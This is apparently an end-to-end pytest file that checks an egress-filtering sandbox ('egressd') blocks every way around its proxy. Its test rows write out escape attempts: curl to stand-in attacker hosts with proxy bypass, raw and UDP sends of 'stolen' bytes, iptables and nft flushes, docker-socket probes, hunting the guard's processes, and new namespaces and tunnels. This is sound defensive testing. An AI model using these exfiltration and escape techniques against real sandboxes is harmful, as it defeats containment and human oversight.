"""NET rows: everything beside the proxy. More are in test_neighbours.py, test_power.py and tests/wiring."""

from __future__ import annotations

import threading
import time
from pathlib import Path

import pytest

from tests.bypass.arena import Arena, Row
from tests.bypass.processes import descendants, settled
from tests.e2e.conftest import until

pytestmark = pytest.mark.e2e

_LITERAL = (("connection", "deny", "ip_literal"),)
_PACKET = (("packet", "deny", "protocol_not_allowed"),)
_NO_POWER = r"Operation not permitted|Permission denied"

ROWS = [
    Row(
        "NET-01",
        "say(shown(tcp('11.6.6.6', 80, get('/', 'evil-lab.com'))))",
        wins="owned",
        sees=r"403 egressd: denied: .*\(reason ip_literal\)",
        records=_LITERAL,
        title="a connection of its own",
    ),
    Row(
        "NET-01",
        "say(run('env', '-i', 'curl', '-gksS', '-m', '5', '--noproxy', '*', 'https://11.6.6.6/'))",
        wins="owned",
        sees=r"access denied",
        records=_LITERAL,
        title="curl without environment",
    ),
    Row(
        "NET-02",
        "say(run('env', 'NO_PROXY=*', 'no_proxy=11.0.0.0/8,.evil-lab.com', 'https_proxy=http://127.0.0.1:3128', "
        "'curl', '-gksS', '-m', '5', 'https://evil-lab.com/'))",
        wins="owned",
        sees=r"\(reason not_allowed\)",
        records=(("connection", "deny", "not_allowed"), ("request", "deny", "not_allowed")),
        title="a list of exceptions of its own",
        note="a denied name under `explain` leads to 198.18.0.2, and there to the reason",
    ),
    Row(
        "NET-02",
        "say({name for name in os.environ if 'proxy' in name.lower()} or 'none given')",
        sees="none given",
        records=(),
        moot="asks what the sandbox was given",
        title="no variable that could hold a list",
        note="the namespace wiring sets no proxy variable, so there is no list of exceptions either",
    ),
    Row(
        "NET-03",
        "say(shown(tcp('2600:6:6::6', 80, get('/', 'x'))))",
        wins="owned",
        sees=r"\(reason ip_literal\)",
        records=_LITERAL,
        title="the attacker over IPv6",
    ),
    Row(
        "NET-03",
        "say(shown(tls('2600:11::20', 443, get('/n', 'api.lab-origin.com'), 'api.lab-origin.com')))",
        wins="200 OK",
        sees=r"\(reason ip_literal\)",
        records=_LITERAL,
        title="the IPv6 address of an allowed name",
    ),
    Row(
        "NET-03",
        "say(shown(tcp('fe80::1%lo', 80, get('/', 'x'))))",
        sees=r"\(reason floor_link_local\)",
        records=(("connection", "deny", "floor_link_local"),),
        moot="the lab has no link-local server",
        title="link-local",
    ),
    Row(
        "NET-03",
        "say(dns('api.lab-origin.com', 28))",
        sees=r"NOERROR$",
        records=(("dns", "allow", "rule"),),
        moot="asks what egressd answers",
        title="an allowed name has no IPv6 address here",
    ),
    Row(
        "NET-04",
        "for port in (443, 123, 51820, 3478, 60000, 5353):\n say(port, shown(udp('11.6.6.6', port)))\n"
        "say(shown(udp('2600:6:6::6', 443)))",
        wins="443 owned.*60000 owned",
        sees=r"^(?:\d* ?PermissionError: .*?\n){7}$",
        records=_PACKET,
    ),
    Row(
        "NET-04",
        "sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nsock.settimeout(1)\n"
        "for data in (b'stolen',) * 20:\n"
        " try:\n  sock.sendto(data, ('8.8.8.8', 443)); say('sent')\n except OSError as error:\n  say(error)",
        wins="sent",
        sees=rf"^(?:.*{_NO_POWER}\n){{20}}$",
        records=_PACKET,
        title="without connect",
    ),
    Row(
        "NET-05",
        "say(run('ping', '-c1', '-W1', '-p', '7365', '11.6.6.6'), run('ping', '-6', '-c1', '-W1', '-p', '7365', "
        "'2600:6:6::6'))",
        wins="1 received.*1 received",
        sees="Packet filtered.*Administratively prohibited",
        records=_PACKET,
        shows={"protocol": "icmpv6", "address": "2600:6:6::6"},
        title="data in an echo",
    ),
    Row(
        "NET-06",
        "for kind, protocol in ((1, 132), (6, 33), (2, 136), (3, 47), (3, 4), (3, 253), (3, 1), (3, 255)):\n"
        " try:\n"
        "  with socket.socket(socket.AF_INET, kind, protocol) as sock:\n"
        "   sock.settimeout(1); sock.connect(('11.6.6.6', 443)); sock.send(b'stolen!!'); say(protocol, 'sent')\n"
        " except OSError as error:\n"
        "  say(protocol, type(error).__name__)",
        wins="136 sent\n47 sent\n4 sent\n253 sent",
        sees=r"^132 OSError\n33 OSError\n136 PermissionError\n(?:\d+ PermissionError\n){5}$",
        records=_PACKET,
        shows={"protocol": "udplite", "address": "11.6.6.6", "port": 443},
        note="this kernel has neither SCTP nor DCCP; what is not TCP, loopback or a reply falls to the last rule",
    ),
    Row(
        "NET-08",
        "for uid in (0, 1337, 59137, 65534):\n"
        " try:\n  os.setuid(uid); say('became', uid)\n except OSError as error:\n  say(error)\n"
        "with socket.socket() as sock:\n"
        " try:\n  sock.setsockopt(1, 36, 1); say('marked')\n except OSError as error:\n  say(error)\n"
        "say(shown(tcp('11.6.6.6', 80, get('/', 'x'))))",
        wins="became 0.*owned",
        sees=rf"^(?:.*Invalid argument\n){{4}}.*{_NO_POWER}\n.*\(reason ip_literal\)",
        records=_LITERAL,
        title="the uid and the mark of a proxy",
    ),
    Row(
        "NET-09",
        "for words in (['sudo', '-n', 'iptables', '-F'], ['/usr/sbin/iptables', '-F'], ['/usr/sbin/nft', 'flush', 'ruleset'], "
        "['docker', 'run', '--net=host', 'x'], ['su', '-c', 'iptables -F']):\n"
        " try:\n  say('done' if run(*words).endswith('[0]') else 'no')\n except OSError:\n  say('no')\n"
        "for path in ('/var/run/docker.sock', '/run/docker.sock', '/run/containerd/containerd.sock', "
        "'/run/podman/podman.sock'):\n"
        " say('no' if not os.path.exists(path) else 'there')\n"
        "for pid in (p for p in os.listdir('/proc') if p.isdigit()):\n"
        " if b'egressd' in open(f'/proc/{pid}/cmdline', 'rb').read() and b'inside.py' not in open(f'/proc/{pid}/cmdline', "
        "'rb').read():\n"
        "  say('a process of the guard', pid)\n"
        "say(shown(tcp('11.6.6.6', 80, get('/', 'x'))))",
        wins="owned",
        sees=r"^(?:no\n){9}HTTP.*\(reason ip_literal\)",
        records=_LITERAL,
        title="sudo, docker, killing the guard",
    ),
    Row(
        "NET-17",
        "def from_(address):\n"
        " try:\n"
        "  with socket.create_connection(('api.lab-origin.com', 443), 3, (address, 0)) as raw:\n"
        "   with ssl._create_unverified_context().wrap_socket(raw, server_hostname='api.lab-origin.com') as sock:\n"
        "    sock.sendall(get('/n')); return shown(receive(sock))[:15]\n"
        " except OSError as error:\n"
        "  return error\n"
        "for address in ('11.0.0.2', '10.9.9.9', '127.0.0.1', '198.18.0.1'):\n say(from_(address))\n"
        "with socket.socket() as sock:\n"
        " try:\n  sock.setsockopt(0, 19, 1); say('transparent')\n except OSError as error:\n  say(error)",
        wins="transparent",
        sees=rf"(?:HTTP/1.1 200 OK|[^\n]*)\n.*{_NO_POWER}",
        records=(),
        reaches=("api.lab-origin.com",),
        title="another's source address",
        note="the listener says whose a connection is; a source address, which anybody may choose, says nothing",
    ),
    Row(
        "NET-19",
        "for port in (15001, 15053):\n for _ in range(20):\n  tcp('127.0.0.1', port, get('/', 'api.lab-origin.com'), "
        "seconds=1)\n"
        "say(shown(tcp('127.0.0.1', 15001, hello())), 'end')\nsay(shown(tcp('::1', 15001, get('/', 'x'))), 'end')",
        sees=r"^(?:(?:<EOF>|<ConnectionResetError>|ConnectionResetError[^\n]*) end\n){2}$",
        records=(("connection", "deny", "no_original_dst"),),
        moot="there is no such port",
        title="the listener itself",
    ),
    Row(
        "NET-23",
        "for kind in (1, 2):\n try:\n  with socket.socket(40, kind) as sock:\n   say('open')\n   sock.settimeout(1); "
        "sock.connect((2, 1024))\n"
        " except OSError as error:\n  say(type(error).__name__, error.errno)\nsay(os.path.exists('/dev/vsock'))",
        wins=r"open|OSError 97",
        sees=r"^OSError 97\nOSError 97\nFalse\n$",
        records=(),
        title="AF_VSOCK",
        note="EAFNOSUPPORT by seccomp, whatever the kernel has; where the kernel has no vsock the open place says the same",
    ),
    Row(
        "NET-24",
        "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
        "for number in (425, 426, 427):\n say(libc.syscall(number, 8, 0, 0, 0) >= 0, ctypes.get_errno())",
        sees=r"^(?:False 38\n){3}$",
        records=(),
        moot="a ring alone wins nothing; packets of a ring's sockets meet the same rules",
        title="io_uring",
    ),
    Row(
        "NET-26",
        "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
        "for flags in (0x10000000, 0x40000000, 0x50000000, 0x20000):\n say(libc.unshare(flags), ctypes.get_errno())\n"
        "for words in (['unshare', '-rn', 'true'], ['ip', 'tuntap', 'add', 't0', 'mode', 'tun'], ['ip', 'link', 'add', "
        "'br0', 'type', 'bridge'],"
        " ['ip', 'link', 'add', 'm0', 'link', 'lo', 'type', 'macvlan'], ['ip', 'tunnel', 'add', 'g0', 'mode', 'gre', "
        "'remote', '11.6.6.6']):\n"
        " say(run('env', 'PATH=/usr/sbin:/sbin:/usr/bin:/bin', *words)[-3:])\n"
        "say(os.path.exists('/dev/net/tun'))",
        wins=r"^0 0\n",
        sees=r"^(?:-1 1\n){4}(?:\[[^0]\]\n){5}False\n$",
        records=(),
        title="new namespaces, tunnels, bridges",
    ),
    Row(
        "NET-27",
        "for words in (['route', 'replace', 'default', 'via', '11.0.0.3', 'dev', 'lo'], ['route', 'flush', 'table', 'all'],"
        " ['addr', 'add', '11.0.0.9/8', 'dev', 'lo'], ['link', 'set', 'lo', 'down'], ['rule', 'add', 'from', 'all', "
        "'lookup', '7']):\n"
        " say(run('/usr/sbin/ip', *words)[-3:])\n"
        "say([line.split(':')[0].strip() for line in open('/proc/net/dev') if ':' in line])",
        sees=r"^(?:\[[^0]\]\n){5}\['lo'\]\n$",
        records=(),
        moot="would take the open place its own way out",
        title="another gateway",
        note="no device but lo, so there is no segment and no neighbour",
    ),
    Row(
        "NET-30",
        "def took(what, *words, **more):\n began = time.monotonic(); what(*words, **more); return round(time.monotonic() "
        "- began, 2)\n"
        "say(max([took(tcp, '11.6.6.6', 80, get('/', 'x')), took(tls, '11.6.6.6', 443, get('/', 'x'), 'evil-lab.com'),"
        " took(tcp, '2600:6:6::6', 80, get('/', 'x')), took(udp, '11.6.6.6', 443), took(udp, '2600:6:6::6', 443),"
        " took(dns, 'evil-lab.com'), took(dns, 'evil-lab.com', over='tcp'), took(dns, 'localhost'),"
        " took(tls, 'evil-lab.com', 443, get('/', 'x'), 'evil-lab.com')]) < 1)",
        sees=r"^True\n$",
        records=(*_LITERAL, *_PACKET),
        moot="how long a refusal takes",
        title="every refusal within a second",
    ),
]


@pytest.mark.parametrize("row", ROWS, ids=str)
def test_nothing_goes_beside_egressd(explaining: Arena, row: Row) -> None:
    explaining.holds(row)


def test_the_first_act_of_a_command_is_already_fenced(explaining: Arena) -> None:
    """NET-10: fifty connections at once before anything else, at the start and from many processes."""
    lab, stand = explaining.lab, explaining.stand
    lab.forget()
    mark = len(stand.records())
    code = (
        "import socket\n"
        "socks = [socket.socket() for _ in range(50)]\n"
        "for sock in socks: sock.setblocking(False); sock.connect_ex(('11.6.6.6', 80))\n"
        "for sock in socks: sock.setblocking(True); sock.sendall(b'GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')\n"
        "print(sum(b'reason ip_literal' in sock.recv(9999) for sock in socks))\n"
    )
    assert explaining.open.run(
        code.replace("ip_literal", "x") + "say(shown(tcp('11.6.6.6', 80, get('/', 'x'))))"
    ).endswith("owned\n<EOF>\n")
    lab.forget()
    ran = stand.run(["/usr/bin/python3", "-c", code])
    assert ran.stdout == "50\n", ran
    records = [
        r for r in stand.records()[mark:] if r.get("layer") == "connection" and r["event"] == "decision"
    ]
    assert [r["reason"] for r in records].count("ip_literal") == 50
    explaining.nothing_reached()


def test_a_flow_ends_when_its_rule_goes(explaining: Arena) -> None:
    """NET-12: raw bytes that a rule let pass are cut when it is removed, and the record says why."""
    stand = explaining.stand
    with_relay = stand.profile.read_text().replace(
        "deny:\n",
        "  - id: raw\n    hosts: [deb.debian.org]\n    treatment: relay\n    ports: [22]\ndeny:\n",
        1,
    )
    plain = stand.profile.read_text()
    code = (
        "sock = socket.create_connection(('deb.debian.org', 22), 3); sock.settimeout(8)\n"
        "say(shown(sock.recv(100))); open('flowing', 'w').close()\n"
        "began = time.monotonic()\nsay(receive(sock)[-30:], time.monotonic() - began < 5)"
    )
    flowing = stand.workspace / "flowing"
    flowing.unlink(missing_ok=True)
    try:
        mark = len(stand.records())
        stand.profile.write_text(with_relay)
        until(lambda: sum(r.get("detail") == "adopted" for r in stand.records()[mark:]) == 2, 5, "the rule")
        said: list[str] = []
        attack = threading.Thread(target=lambda: said.append(explaining.a.run(code, 15)))
        attack.start()
        until(flowing.exists, 5, "the flow")
        stand.profile.write_text(plain)
        attack.join()
        assert said[0].startswith("SSH-2.0-lab")
        assert said[0].endswith("True\n"), said
        until(lambda: stand.records(event="end", reason="policy_changed", port=22), 3, "the end's record")
        assert "SSH" not in explaining.a.run("say(shown(tcp('deb.debian.org', 22, b'x')))")
    finally:
        stand.profile.write_text(plain)
        until(
            lambda: (
                len({r["policy"] for r in stand.records(event="policy")[-2:]}) == 1
                and stand.records(event="policy")[-1].get("detail") == "adopted"
            ),
            5,
            "the rules as they were",
        )
    explaining.life_goes_on()


def test_a_host_that_forwards_everything_changes_nothing(explaining: Arena) -> None:
    """NET-15: FORWARD accepted and masqueraded, as docker and others leave it: a sandbox has no device to forward from."""
    lab = explaining.lab
    rules = (
        "sysctl -qw net.ipv4.ip_forward=1 net.ipv6.conf.all.forwarding=1; iptables -P FORWARD ACCEPT; ip6tables -P "
        "FORWARD ACCEPT;"
        "iptables -t nat -{do} POSTROUTING -j MASQUERADE; iptables -t nat -{do} OUTPUT -p tcp -d 198.18.0.0/15 -j ACCEPT"
    )
    path = {"PATH": "/usr/sbin:/usr/bin:/sbin:/bin"}
    ran = lab.host_exec(["sh", "-ec", rules.format(do="A")], env=path)
    assert ran.returncode == 0, ran
    try:
        lab.forget()
        said = explaining.a.run(
            "say(shown(tcp('11.6.6.6', 80, get('/', 'x'))), shown(udp('11.6.6.6', 443)), shown(tcp('2600:6:6::6', 80, "
            "get('/', 'x'))))"
        )
        assert said.count("reason ip_literal") == 4, said  # twice each: in the status line and in the words
        explaining.nothing_reached()
    finally:
        lab.host_exec(["sh", "-c", rules.format(do="D")], env=path)
    explaining.life_goes_on()


def test_egressd_killed_at_any_moment_leaves_no_way_and_no_rest(explaining: Arena) -> None:
    """NET-14, NET-31: its processes end with it, the host's rules and mounts are untouched, and the next sandbox is whole."""
    lab, stand = explaining.lab, explaining.stand
    state = ["sh", "-c", "iptables-save | grep -v '^#' | sed 's/ *[[][0-9:]*[]]//'; ip -o link; ip rule"]
    before = lab.host_exec(state, env={"PATH": "/usr/sbin:/usr/bin:/bin"}).stdout
    mounts = Path("/proc/self/mountinfo").read_text()
    lab.forget()
    code = "import socket\nwhile True:\n s = socket.socket()\n s.connect_ex(('11.6.6.6', 80)); s.close()"
    for wait in (0.1, 0.5, 0.9):
        process = stand.start(["/usr/bin/python3", "-c", code])
        time.sleep(wait)
        family = descendants(process.pid)
        process.kill()
        process.communicate(timeout=10)
        assert settled(family), f"left after {wait} s"
    explaining.nothing_reached()
    assert lab.host_exec(state, env={"PATH": "/usr/sbin:/usr/bin:/bin"}).stdout == before
    assert Path("/proc/self/mountinfo").read_text() == mounts
    with explaining.another() as driver:
        assert "reason ip_literal" in driver.run("say(shown(tcp('11.6.6.6', 80, get('/', 'x'))))")
    explaining.life_goes_on()
